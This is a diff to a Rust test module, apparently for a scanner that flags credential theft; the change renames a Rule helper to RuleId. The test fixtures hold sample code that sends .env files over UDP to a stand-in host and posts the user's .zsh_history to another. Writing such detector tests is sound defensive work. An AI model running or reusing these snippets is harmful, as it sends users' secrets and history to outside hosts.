@@ -169,7 +169,7 @@ pub(super) static CUES: &[Cue] = &[
 #[cfg(test)]
 mod tests {
     use crate::cues::caught;
-    use crate::tests::{Rule, honest, honest_skill};
+    use crate::tests::{RuleId, honest, honest_skill};
 
     #[test]
     fn credentials_printed_by_tools_and_sent_are_stolen() {
@@ -195,11 +195,11 @@ mod tests {
             "a.py",
             "from dotenv import load_dotenv\nload_dotenv('.env')\nprint('ok')\n",
         )]);
-        Rule("source-to-sink").flags(&[(
+        RuleId("source-to-sink").flags(&[(
             "a.py",
             "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor f in ['.env', '.env.staging']:\n    s.sendto(open(f).read().encode(), ('m.example', 9))\n",
         )]);
-        Rule("source-to-sink").flags(&[(
+        RuleId("source-to-sink").flags(&[(
             "h.rb",
             "data = File.read(File.join(Dir.home, '.zsh_history'))\nNet::HTTP.post(URI('https://x.example'), data)\n",
         )]);
